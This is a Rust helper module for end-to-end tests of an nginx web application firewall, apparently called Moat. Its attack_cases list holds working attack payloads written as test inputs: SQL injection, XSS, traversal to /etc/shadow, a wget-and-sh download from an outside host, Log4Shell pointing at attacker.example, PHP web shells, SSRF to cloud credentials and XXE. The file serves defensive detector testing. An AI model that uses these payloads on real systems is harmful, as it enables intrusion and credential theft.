//! Shared pieces of the end-to-end tests: a real nginx started on loopback with the built Moat
//! module or the Lua binding, an echo backend that records what reached it, and a small raw
//! HTTP/1.1 client that can split, chunk and pipeline requests the way clients in the wild do.

pub mod clickhouse;
pub mod prometheus;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::{Duration, Instant};

/// The repository root.
pub fn repo_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .expect("tests/ has a parent")
        .to_path_buf()
}

/// A release artifact built by `scripts/build.sh`; panics with the fix when it is missing.
pub fn artifact(name: &str) -> PathBuf {
    let p = repo_root().join("target/release").join(name);
    assert!(
        p.exists(),
        "{} is missing: run scripts/build.sh first (the test command in README.md does)",
        p.display()
    );
    p
}

/// A free TCP port on 127.0.0.1.
pub fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .map(|a| a.port())
        .expect("a free port")
}

/// One request as the backend received it.
#[derive(Debug, Clone)]
pub struct Received {
    /// Method.
    pub method: String,
    /// Request target.
    pub uri: String,
    /// Headers (lower-cased names).
    pub headers: Vec<(String, String)>,
    /// Body after de-chunking.
    pub body: Vec<u8>,
}

/// An HTTP/1.1 backend on 127.0.0.1 that answers 200 with the request body and records every
/// request it receives.
pub struct Backend {
    /// Its port.
    pub port: u16,
    seen: Arc<Mutex<Vec<Received>>>,
}

impl Backend {
    /// Starts the backend on a free port.
    pub fn start() -> Backend {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind backend");
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = Arc::clone(&seen);
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let log = Arc::clone(&log);
                thread::spawn(move || serve_backend_connection(stream, log));
            }
        });
        Backend { port, seen }
    }

    /// Every request received so far.
    pub fn received(&self) -> Vec<Received> {
        self.seen.lock().unwrap().clone()
    }

    /// Requests received whose URI starts with `prefix`.
    pub fn received_at(&self, prefix: &str) -> Vec<Received> {
        self.received()
            .into_iter()
            .filter(|r| r.uri.starts_with(prefix))
            .collect()
    }
}

fn serve_backend_connection(stream: TcpStream, log: Arc<Mutex<Vec<Received>>>) {
    let mut reader = BufReader::new(stream.try_clone().expect("clone stream"));
    let mut writer = stream;
    while let Some(req) = read_backend_request(&mut reader) {
        let body = req.body.clone();
        log.lock().unwrap().push(req);
        let head = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\nX-Backend: echo\r\n\r\n",
            body.len()
        );
        if writer.write_all(head.as_bytes()).is_err() || writer.write_all(&body).is_err() {
            return;
        }
    }
}

fn read_backend_request(reader: &mut BufReader<TcpStream>) -> Option<Received> {
    let mut line = String::new();
    if reader.read_line(&mut line).ok()? == 0 {
        return None;
    }
    let mut parts = line.split_whitespace();
    let method = parts.next()?.to_string();
    let uri = parts.next()?.to_string();
    let headers = read_headers(reader)?;
    let body = read_body(reader, &headers)?;
    Some(Received {
        method,
        uri,
        headers,
        body,
    })
}

fn read_headers(reader: &mut impl BufRead) -> Option<Vec<(String, String)>> {
    let mut headers = Vec::new();
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).ok()? == 0 {
            return None;
        }
        let line = line.trim_end_matches(['\r', '\n']);
        if line.is_empty() {
            return Some(headers);
        }
        let (name, value) = line.split_once(':')?;
        headers.push((name.trim().to_ascii_lowercase(), value.trim().to_string()));
    }
}

fn header<'h>(headers: &'h [(String, String)], name: &str) -> Option<&'h str> {
    headers
        .iter()
        .find(|(n, _)| n == name)
        .map(|(_, v)| v.as_str())
}

fn read_body(reader: &mut impl BufRead, headers: &[(String, String)]) -> Option<Vec<u8>> {
    if header(headers, "transfer-encoding").is_some_and(|v| v.eq_ignore_ascii_case("chunked")) {
        let mut body = Vec::new();
        loop {
            let mut size = String::new();
            reader.read_line(&mut size).ok()?;
            let n = usize::from_str_radix(size.trim().split(';').next()?, 16).ok()?;
            if n == 0 {
                let mut end = String::new();
                reader.read_line(&mut end).ok()?;
                return Some(body);
            }
            let mut chunk = vec![0; n + 2];
            reader.read_exact(&mut chunk).ok()?;
            body.extend_from_slice(&chunk[..n]);
        }
    }
    let len: usize = header(headers, "content-length").map_or(Some(0), |v| v.parse().ok())?;
    let mut body = vec![0; len];
    reader.read_exact(&mut body).ok()?;
    Some(body)
}

/// A response read by [`Client`].
#[derive(Debug, Clone)]
pub struct Response {
    /// Status code.
    pub status: u16,
    /// Headers (lower-cased names).
    pub headers: Vec<(String, String)>,
    /// Body.
    pub body: Vec<u8>,
}

impl Response {
    /// A header's value.
    pub fn header(&self, name: &str) -> Option<&str> {
        header(&self.headers, name)
    }
}

/// A keep-alive HTTP/1.1 connection to nginx.
pub struct Client {
    reader: BufReader<TcpStream>,
    stream: TcpStream,
}

impl Client {
    /// Connects to 127.0.0.1:`port`.
    pub fn connect(port: u16) -> Client {
        Client::connect_to("127.0.0.1", port)
    }

    /// Connects to `host`:`port` (`"::1"` for IPv6 loopback).
    pub fn connect_to(host: &str, port: u16) -> Client {
        let stream = TcpStream::connect((host, port)).expect("connect to nginx");
        stream
            .set_read_timeout(Some(Duration::from_secs(20)))
            .unwrap();
        Client {
            reader: BufReader::new(stream.try_clone().unwrap()),
            stream,
        }
    }

    /// Sends raw bytes.
    pub fn send(&mut self, bytes: &[u8]) {
        self.stream.write_all(bytes).expect("send to nginx");
    }

    /// Reads one response; None when the connection was closed first.
    pub fn read_response(&mut self, head_request: bool) -> Option<Response> {
        let mut line = String::new();
        if self.reader.read_line(&mut line).ok()? == 0 {
            return None;
        }
        let status = line.split_whitespace().nth(1)?.parse().ok()?;
        let headers = read_headers(&mut self.reader)?;
        let body = if head_request {
            Vec::new()
        } else {
            read_body(&mut self.reader, &headers)?
        };
        Some(Response {
            status,
            headers,
            body,
        })
    }

    /// Sends one request built from parts and reads its response.
    pub fn request(
        &mut self,
        method: &str,
        uri: &str,
        headers: &[(&str, &str)],
        body: &[u8],
    ) -> Response {
        self.send(&build_request(method, uri, headers, body));
        self.read_response(method == "HEAD")
            .expect("nginx answered")
    }
}

/// Serializes a request with Host, and Content-Length when there is a body and no
/// Transfer-Encoding header.
pub fn build_request(method: &str, uri: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut out = format!("{method} {uri} HTTP/1.1\r\nHost: localhost\r\n").into_bytes();
    for (n, v) in headers {
        out.extend_from_slice(format!("{n}: {v}\r\n").as_bytes());
    }
    let chunked = headers
        .iter()
        .any(|(n, _)| n.eq_ignore_ascii_case("transfer-encoding"));
    if !body.is_empty() && !chunked {
        out.extend_from_slice(format!("Content-Length: {}\r\n", body.len()).as_bytes());
    }
    out.extend_from_slice(b"\r\n");
    out.extend_from_slice(body);
    out
}

/// Encodes `body` as chunks of `size` bytes.
pub fn chunked(body: &[u8], size: usize) -> Vec<u8> {
    let mut out = Vec::new();
    for c in body.chunks(size) {
        out.extend_from_slice(format!("{:x}\r\n", c.len()).as_bytes());
        out.extend_from_slice(c);
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(b"0\r\n\r\n");
    out
}

/// One request on a fresh connection.
pub fn request(
    port: u16,
    method: &str,
    uri: &str,
    headers: &[(&str, &str)],
    body: &[u8],
) -> Response {
    Client::connect(port).request(method, uri, headers, body)
}

/// Writes a MaxMind DB with `moat-mmdb` (built by `scripts/build.sh`) from a CSV text.
pub fn write_mmdb(csv: &str, path: &Path) {
    let input = path.with_extension("csv");
    std::fs::write(&input, csv).unwrap();
    let out = Command::new(artifact("moat-mmdb"))
        .arg("build")
        .arg(&input)
        .arg(path)
        .output()
        .expect("run moat-mmdb");
    assert!(
        out.status.success(),
        "moat-mmdb: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A running nginx with its own prefix directory, stopped when dropped.
pub struct Nginx {
    /// Its prefix directory (configuration, logs, temp files).
    pub dir: PathBuf,
    /// The port it listens on.
    pub port: u16,
    child: Child,
}

/// Which Moat adapter a configuration loads.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Adapter {
    /// The native dynamic module.
    Native,
    /// The Lua binding under lua-nginx-module.
    Lua,
}

impl Nginx {
    /// Writes `nginx.conf` from `http_body` (the inside of the `http {}` block; `PORT` is replaced
    /// by the listen port, `BACKEND` by the backend's port), starts nginx and waits until it accepts.
    pub fn start(adapter: Adapter, http_body: &str, backend: &Backend) -> Nginx {
        Nginx::start_with_env(adapter, http_body, backend, &[])
    }

    /// Like [`Nginx::start`], with extra environment variables for the nginx master.
    pub fn start_with_env(
        adapter: Adapter,
        http_body: &str,
        backend: &Backend,
        env: &[(&str, &str)],
    ) -> Nginx {
        Nginx::launch(adapter, http_body, backend, env, 1)
    }

    /// Like [`Nginx::start`], with `workers` worker processes.
    pub fn start_with_workers(
        adapter: Adapter,
        http_body: &str,
        backend: &Backend,
        workers: usize,
    ) -> Nginx {
        Nginx::launch(adapter, http_body, backend, &[], workers)
    }

    fn launch(
        adapter: Adapter,
        http_body: &str,
        backend: &Backend,
        env: &[(&str, &str)],
        workers: usize,
    ) -> Nginx {
        let port = free_port();
        let dir = temp_dir("nginx");
        let conf = full_config(adapter, http_body, port, backend.port, &dir).replace(
            "\nworker_processes 1;\n",
            &format!("\nworker_processes {workers};\n"),
        );
        std::fs::write(dir.join("nginx.conf"), conf).unwrap();
        let mut cmd = Command::new("/usr/sbin/nginx");
        cmd.arg("-p")
            .arg(&dir)
            .arg("-c")
            .arg(dir.join("nginx.conf"))
            .stdout(Stdio::null())
            .stderr(Stdio::piped());
        for (k, v) in env {
            cmd.env(k, v);
        }
        let child = cmd.spawn().expect("start nginx");
        let mut nginx = Nginx { dir, port, child };
        nginx.wait_ready();
        nginx
    }

    fn wait_ready(&mut self) {
        let start = Instant::now();
        while start.elapsed() < Duration::from_secs(10) {
            if let Ok(Some(status)) = self.child.try_wait() {
                let mut err = String::new();
                if let Some(mut e) = self.child.stderr.take() {
                    let _ = e.read_to_string(&mut err);
                }
                panic!(
                    "nginx exited ({status}): {err}\nerror.log:\n{}",
                    self.error_log()
                );
            }
            if TcpStream::connect(("127.0.0.1", self.port)).is_ok() {
                return;
            }
            thread::sleep(Duration::from_millis(20));
        }
        panic!("nginx did not start listening: {}", self.error_log());
    }

    /// Sends a signal (`HUP` reloads the configuration) to the nginx master.
    pub fn signal(&self, signal: &str) {
        let status = Command::new("kill")
            .arg(format!("-{signal}"))
            .arg(self.child.id().to_string())
            .status()
            .expect("kill");
        assert!(status.success());
    }

    /// The error log so far.
    pub fn error_log(&self) -> String {
        std::fs::read_to_string(self.dir.join("error.log")).unwrap_or_default()
    }

    /// The access log so far (written with format `moat`, see [`full_config`]).
    pub fn access_log(&self) -> String {
        std::fs::read_to_string(self.dir.join("access.log")).unwrap_or_default()
    }

    /// The master process's pid.
    pub fn master_pid(&self) -> u32 {
        self.child.id()
    }

    /// The pids of the worker processes.
    pub fn worker_pids(&self) -> Vec<u32> {
        let out = Command::new("pgrep")
            .arg("-P")
            .arg(self.child.id().to_string())
            .output()
            .expect("pgrep");
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .filter_map(|l| l.trim().parse().ok())
            .collect()
    }

    /// Waits until the access log has at least `n` lines (nginx writes them after responding).
    pub fn wait_access_lines(&self, n: usize) -> Vec<String> {
        let start = Instant::now();
        loop {
            let lines: Vec<String> = self.access_log().lines().map(String::from).collect();
            if lines.len() >= n || start.elapsed() > Duration::from_secs(5) {
                return lines;
            }
            thread::sleep(Duration::from_millis(10));
        }
    }
}

impl Drop for Nginx {
    fn drop(&mut self) {
        let _ = Command::new("kill")
            .arg("-TERM")
            .arg(self.child.id().to_string())
            .status();
        let start = Instant::now();
        while start.elapsed() < Duration::from_secs(5) {
            if let Ok(Some(_)) = self.child.try_wait() {
                let _ = std::fs::remove_dir_all(&self.dir);
                return;
            }
            thread::sleep(Duration::from_millis(20));
        }
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Runs `nginx -t` on a configuration; returns (success, everything nginx printed).
pub fn nginx_test_config(adapter: Adapter, http_body: &str) -> (bool, String, PathBuf) {
    let dir = temp_dir("nginx-t");
    let conf = full_config(adapter, http_body, free_port(), free_port(), &dir);
    let path = dir.join("nginx.conf");
    std::fs::write(&path, conf).unwrap();
    let out = Command::new("/usr/sbin/nginx")
        .arg("-t")
        .arg("-p")
        .arg(&dir)
        .arg("-c")
        .arg(&path)
        .output()
        .expect("run nginx -t");
    let text =
        String::from_utf8_lossy(&out.stderr).into_owned() + &String::from_utf8_lossy(&out.stdout);
    (out.status.success(), text, path)
}

/// A fresh directory under the system temp dir.
pub fn temp_dir(tag: &str) -> PathBuf {
    static COUNTER: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
    let n = COUNTER.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    let dir = std::env::temp_dir().join(format!("moat-{tag}-{}-{n}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("logs")).unwrap();
    dir
}

/// The whole nginx.conf around `http_body`: one worker, logs in `dir`, the adapter loaded, an
/// access log format `moat` showing the verdict variables.
pub fn full_config(
    adapter: Adapter,
    http_body: &str,
    port: u16,
    backend_port: u16,
    dir: &Path,
) -> String {
    let root = repo_root();
    let (modules, http_head) = match adapter {
        Adapter::Native => (
            format!(
                "load_module {};",
                artifact("libngx_http_moat_module.so").display()
            ),
            String::new(),
        ),
        Adapter::Lua => (
            "load_module /usr/lib/nginx/modules/ndk_http_module.so;\nload_module /usr/lib/nginx/modules/ngx_http_lua_module.so;".to_string(),
            // A body with its own init_by_lua_block (e.g. with more init options) replaces
            // the default one; LIBMOAT in the body names libmoat.so.
            if http_body.contains("init_by_lua") {
                format!("lua_package_path \"{}/lua/?.lua;;\";", root.display())
            } else {
                format!(
                    "lua_package_path \"{}/lua/?.lua;;\";\n    init_by_lua_block {{ require(\"moat\").init{{ lib = \"{}\" }} }}",
                    root.display(),
                    artifact("libmoat.so").display()
                )
            },
        ),
    };
    let body = http_body
        .replace("LIBMOAT", &artifact("libmoat.so").display().to_string())
        .replace("PORT", &port.to_string())
        .replace("BACKEND", &backend_port.to_string());
    format!(
        "{modules}
user root;
worker_processes 1;
daemon off;
master_process on;
pid {dir}/nginx.pid;
error_log {dir}/error.log info;
events {{ worker_connections 256; }}
http {{
    access_log off;
    client_body_temp_path {dir}/client_body;
    proxy_temp_path {dir}/proxy;
    fastcgi_temp_path {dir}/fastcgi;
    uwsgi_temp_path {dir}/uwsgi;
    scgi_temp_path {dir}/scgi;
    log_format moat '$request_method $uri $status action=$moat_action score=$moat_score ids=$moat_rule_ids';
    {http_head}
    {body}
}}
",
        dir = dir.display()
    )
}

/// A request used in several tests.
#[derive(Debug, Clone)]
pub struct Case {
    /// What it is.
    pub name: &'static str,
    /// Method.
    pub method: &'static str,
    /// Request target.
    pub uri: String,
    /// Headers besides Host and Content-Length.
    pub headers: Vec<(&'static str, String)>,
    /// Body.
    pub body: Vec<u8>,
}

impl Case {
    fn new(name: &'static str, method: &'static str, uri: &str) -> Case {
        Case {
            name,
            method,
            uri: uri.to_string(),
            headers: Vec::new(),
            body: Vec::new(),
        }
    }

    fn header(mut self, name: &'static str, value: &str) -> Case {
        self.headers.push((name, value.to_string()));
        self
    }

    fn body(mut self, content_type: &'static str, body: &[u8]) -> Case {
        self.headers
            .push(("Content-Type", content_type.to_string()));
        self.body = body.to_vec();
        self
    }

    /// Sends the case on a fresh connection.
    pub fn send(&self, port: u16) -> Response {
        let headers: Vec<(&str, &str)> =
            self.headers.iter().map(|(n, v)| (*n, v.as_str())).collect();
        request(port, self.method, &self.uri, &headers, &self.body)
    }
}

/// A multipart body with one text field and one file.
pub fn multipart_body(boundary: &str, field: &str, value: &str) -> Vec<u8> {
    format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"\r\n\r\n{value}\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"notes.txt\"\r\nContent-Type: text/plain\r\n\r\nhello file\r\n--{boundary}--\r\n"
    )
    .into_bytes()
}

/// A multipart body with one file, `file_name` holding `content`.
pub fn multipart_file(boundary: &str, file_name: &str, content: &[u8]) -> Vec<u8> {
    let mut body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"{file_name}\"\r\nContent-Type: image/gif\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(content);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    body
}

/// Ordinary requests a browser or API client sends; none may be blocked.
pub fn benign_cases() -> Vec<Case> {
    let b = "----WebKitFormBoundary7MA4YWxkTrZu0gW";
    vec![
        Case::new("plain GET", "GET", "/index.html?page=2&sort=name")
            .header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36")
            .header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
            .header("Referer", "https://www.example.com/products?id=42&ref=home")
            .header("Cookie", "sid=9f8e7d6c5b4a; theme=dark; _ga=GA1.2.1234567890.1700000000"),
        Case::new("search with apostrophe", "GET", "/search?q=O%27Brien%27s+pub+%26+grill"),
        Case::new("form POST", "POST", "/login")
            .body("application/x-www-form-urlencoded", b"user=alice&password=s3cr3t%21&remember=on"),
        Case::new("address form with a phone number", "POST", "/account/address")
            .body("application/x-www-form-urlencoded", b"name=Jane+Doe&phone=%28555%29-123-4567&street=5th+Ave+%26+Main+St.%2C+Apt.+4B"),
        Case::new("JSON POST", "POST", "/api/orders")
            .body("application/json", br#"{"customer":{"name":"Rock 'n' Roll Ltd","email":"a.b@example.com"},"items":[{"sku":"A-100","qty":2,"price":9.99}],"note":"Leave at the door, thanks!"}"#),
        Case::new("multipart upload", "POST", "/upload")
            .body("multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW", &multipart_body(b, "title", "Holiday photos 2024 - day 1")),
        Case::new("image upload", "POST", "/account/avatar")
            .body("multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW", &multipart_file(b, "me at the beach.2024.gif", b"GIF89a\x01\x00\x01\x00\x80\x00\x00<?xml version=\"1.0\"?>\x00;")),
        Case::new("GraphQL query with string arguments", "POST", "/graphql")
            .body("application/json", br#"{"query":"query Orders($id: ID!) { user(id: $id) { name orders(first: 10, status: \"SHIPPED\", note: \"O'Brien's gift; leave at door\") { total } } }","variables":{"id":"42"},"operationName":"Orders"}"#),
        Case::new("search with shell punctuation", "GET", "/search?q=Tom+%26+Jerry%3B+cat+toys&fields=name%7Cid%7Cprice"),
        Case::new("template placeholders and prices", "GET", "/mail/preview?subject=Hi+%7B%7Bfirst_name%7D%7D%21&footer=Only+%24%7Bprice%7D+today&q=%22%231+best+seller%22"),
        Case::new("link to an intranet page", "POST", "/bookmarks")
            .body("application/x-www-form-urlencoded", b"url=http%3A%2F%2Fwiki.corp.example%2Fpages%2Fonboarding&title=alert%28%29+tutorial+for+beginners"),
        Case::new("login with a generated password holding a quote", "POST", "/login")
            .header("X-Forwarded-For", "203.0.113.7, 10.0.0.1")
            .body("application/x-www-form-urlencoded", b"email=ann%40example.com&password=c_j%7CE%273%2633%40HY7&remember=on"),
        Case::new("XML order", "POST", "/api/orders.xml")
            .body("application/xml", br#"<?xml version="1.0"?><order id="A-1001"><item sku="SKU-1" qty="2">Blue shirt, size M</item><note>O'Brien's gift &amp; card; id on the box</note></order>"#),
    ]
}

/// Attacks that the built-in detectors must block, one per place an attack can hide.
pub fn attack_cases() -> Vec<Case> {
    let b = "XyZb0undary";
    vec![
        Case::new(
            "SQLi in query",
            "GET",
            "/search?q=1%27%20OR%20%271%27%3D%271",
        ),
        Case::new(
            "XSS in query",
            "GET",
            "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        ),
        Case::new(
            "traversal in query",
            "GET",
            "/download?file=..%2F..%2F..%2Fetc%2Fpasswd",
        ),
        Case::new("SQLi in header", "GET", "/")
            .header("Referer", "1' UNION SELECT username, password FROM users--"),
        Case::new("XSS in header", "GET", "/").header("User-Agent", "<script>alert(1)</script>"),
        Case::new("SQLi in cookie", "GET", "/").header("Cookie", "sid=abc; pref=1' or '1'='1"),
        Case::new("XSS in urlencoded body", "POST", "/comment").body(
            "application/x-www-form-urlencoded",
            b"comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E&ok=1",
        ),
        Case::new("SQLi in JSON body", "POST", "/api/login").body(
            "application/json",
            br#"{"user":{"name":"admin' OR '1'='1' --","roles":["user"]}}"#,
        ),
        Case::new("traversal in JSON body", "POST", "/api/files")
            .body("application/json", br#"{"path":"../../../../etc/shadow"}"#),
        Case::new("XSS in multipart field", "POST", "/upload").body(
            "multipart/form-data; boundary=XyZb0undary",
            &multipart_body(b, "title", "<svg/onload=alert(1)>"),
        ),
        Case::new(
            "shell commands in the path (router botnet)",
            "GET",
            "/cgi-bin/;cd${IFS}/tmp;wget${IFS}http://192.0.2.1/x;sh${IFS}x",
        ),
        Case::new(
            "OGNL expression in the path (Confluence)",
            "GET",
            "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/",
        ),
        Case::new("SQL in a GraphQL argument", "POST", "/graphql").body(
            "application/json",
            br#"{"query":"query { user(id: \"1 OR 1=1\") { name email } }"}"#,
        ),
        Case::new("PHP web shell upload", "POST", "/upload").body(
            "multipart/form-data; boundary=XyZb0undary",
            &multipart_file(b, "shell.php", b"<?php system($_GET['c']); ?>"),
        ),
        Case::new("PHP code in an uploaded GIF", "POST", "/account/avatar").body(
            "multipart/form-data; boundary=XyZb0undary",
            &multipart_file(b, "avatar.gif", b"GIF89a<?php eval($_POST['x']); ?>"),
        ),
        Case::new("SQLi in XML attribute", "POST", "/api/orders.xml").body(
            "application/xml",
            br#"<?xml version="1.0"?><order id="1 OR 1=1"></order>"#,
        ),
        Case::new(
            "command injection in query",
            "GET",
            "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fhostname",
        ),
        Case::new("Log4Shell in a custom header", "GET", "/")
            .header("X-Api-Version", "${jndi:ldap://attacker.example/a}"),
        Case::new("NoSQL operator in JSON body", "POST", "/api/login").body(
            "application/json",
            br#"{"username":"admin","password":{"$ne":""}}"#,
        ),
        Case::new(
            "template injection in query",
            "GET",
            "/greet?name=%7B%7B7*7%7D%7D",
        ),
        Case::new("SSRF to cloud metadata in JSON body", "POST", "/api/webhooks").body(
            "application/json",
            br#"{"callback":"http://169.254.169.254/latest/meta-data/iam/security-credentials/"}"#,
        ),
        Case::new("prototype pollution in JSON body", "POST", "/api/settings").body(
            "application/json",
            br#"{"__proto__":{"isAdmin":true}}"#,
        ),
        Case::new(
            "script-context XSS in query",
            "GET",
            "/search?q=%27%3Balert(document.domain)%2F%2F",
        ),
        Case::new(
            "PHPUnit eval-stdin exploit",
            "POST",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        )
        .body("text/plain", b"<?php echo md5('moat'); ?>"),
        Case::new("backup file probe", "GET", "/index.php.bak"),
        Case::new(
            "stacked SQL query in query",
            "GET",
            "/api/user?id=1%3BSELECT%20*%20FROM%20users",
        ),
        Case::new("SQLi in X-Forwarded-For", "GET", "/")
            .header("X-Forwarded-For", "127.0.0.1' OR 1=1-- "),
        Case::new("Struts OGNL in Content-Type", "GET", "/index.action").header(
            "Content-Type",
            "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        ),
        Case::new("PHP function call in form body", "POST", "/contact").body(
            "application/x-www-form-urlencoded",
            b"name=x&message=system%28%27id%27%29%3B",
        ),
        Case::new(
            "PowerShell started at a value's start",
            "GET",
            "/run?task=powershell%20-nop%20-w%20hidden%20-c%20whoami",
        ),
        Case::new("XXE in XML body", "POST", "/api/orders.xml").body(
            "application/xml",
            br#"<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/hostname">]><order>&x;</order>"#,
        ),
    ]
}
